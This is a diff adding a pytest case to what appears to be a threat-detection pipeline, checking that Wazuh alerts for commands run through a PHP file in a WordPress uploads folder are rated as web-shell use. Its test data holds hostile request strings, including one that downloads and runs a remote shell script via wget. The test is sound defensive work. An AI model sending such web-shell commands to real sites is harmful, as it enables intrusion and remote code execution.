@@ -1428,3 +1428,19 @@ def test_an_answer_that_holds_a_command_s_output_shows_the_exploit_ran(field, bo
     record["flow"] = {**record["flow"], "src_ip": "45.148.10.95", "dest_ip": "10.50.4.12"}
     threat, = _ingest("suricata", record)
     assert threat.severity == band
+
+
+@pytest.mark.parametrize("url,status,band", [
+    ("/wp-content/uploads/2026/11/thumb-cache.php?c=cd /tmp;wget http://198.51.100.9/k.sh;sh .k.sh", "200", "HIGH"),
+    ("/wp-content/uploads/2026/11/thumb-cache.php?c=id", "200", "HIGH"),
+    ("/wp-content/uploads/2026/11/thumb-cache.php?c=id", "404", "LOW"),  # no such script: a failed probe
+    ("/shop/search.php?q=cat food;wget", "200", None),  # not an upload folder: the site's own code
+])
+def test_a_script_in_an_upload_folder_running_a_command_is_a_web_shell(url, status, band):
+    """`web_shell_used`: uploads are files, never code; one that runs a command and answers 2xx is a web shell."""
+    alert = _wazuh_alert(f"1.{len(url)}.{status}", "31106", 6, "A web attack returned code 200 (success).",
+                         ["web", "accesslog", "attack"], agent="edu-wp-01",
+                         data={"protocol": "GET", "srcip": "198.51.100.9", "id": status, "url": url})
+    threat, = _ingest("wazuh", alert)
+    assert threat.severity == band if band else threat.severity != "HIGH"
+    assert ("web_shell_used" in str(threat.risk_factors) or "web shell" in str(threat.risk_factors)) is (band == "HIGH")
